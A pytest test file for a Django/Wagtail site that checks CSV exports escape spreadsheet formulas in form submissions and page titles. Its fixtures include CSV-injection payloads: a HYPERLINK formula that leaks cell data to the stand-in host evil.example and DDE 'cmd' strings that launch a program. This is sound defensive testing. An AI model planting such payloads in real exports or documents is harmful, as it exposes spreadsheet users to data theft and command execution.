"""CSV exports of the admin never hand a spreadsheet a formula (home/spreadsheets.py): what a
visitor types into a form, or an editor into a title, opens as text. Through the real export
URLs, as staff download them."""

import csv
import io

import pytest
from django.core.cache import caches
from django.urls import reverse
from wagtail.models import Page

from home.models import FormPage
from home.spreadsheets import spreadsheet_safe

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read_csv(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = getattr(response, "streaming_content", None)
    body = b"".join(content) if content is not None else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("+1 (555) 010-0199", "'+1 (555) 010-0199"),  # text, as a phone number should be
        # Numbers compute nothing and stay numbers; ordinary text is untouched.
        ("-5", "-5"),
        ("+15550100", "+15550100"),
        ("-3.25", "-3.25"),
        ("Ana = Luis", "Ana = Luis"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_what_a_spreadsheet_would_run_gets_a_quote(value, written):
    assert spreadsheet_safe(value) == written


def test_form_submissions_export_defuses_formulas(client, moderator_client):
    caches["ratelimit"].clear()
    for name, message in [
        (LINK, "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1 555 0100", "-5"),
    ]:
        data = {"name": name, "email": "ana@example.org", "city": "Tucson", "message": message}
        assert client.post("/en/contact/", data).status_code == 200
    caches["ratelimit"].clear()

    page = FormPage.objects.get(slug="contact")
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    rows = read_csv(moderator_client.get(url, {"export": "csv"}))
    name, message = rows[0].index("Your name"), rows[0].index("Message")
    cells = {(row[name], row[message]) for row in rows[1:]}
    assert ("'" + LINK, "'@SUM(1+1)*cmd|' /C calc'!A0") in cells
    assert ("'+1 555 0100", "-5") in cells


def test_wagtails_own_reports_defuse_page_titles(admin_client, english):
    about = Page.objects.get(locale=english, slug="about").specific
    about.title = LINK
    about.save_revision().publish()
    rows = read_csv(
        admin_client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
    )
    assert [row[0] for row in rows if LINK in row[0]] == ["'" + LINK]


def test_translation_status_report_defuses_page_titles(comms_client, english):
    about = Page.objects.get(locale=english, slug="about").specific
    about.title = "-1+cmd|' /C calc'!A0"
    about.save_revision().publish()
    rows = read_csv(comms_client.get(reverse("translation_report"), {"export": "csv"}))
    assert rows[0][0] == "Title"
    titles = [row[0] for row in rows[1:]]
    assert "'-1+cmd|' /C calc'!A0" in titles
    assert "About us" not in titles and "Worker to Worker Solidarity Campaign" in titles
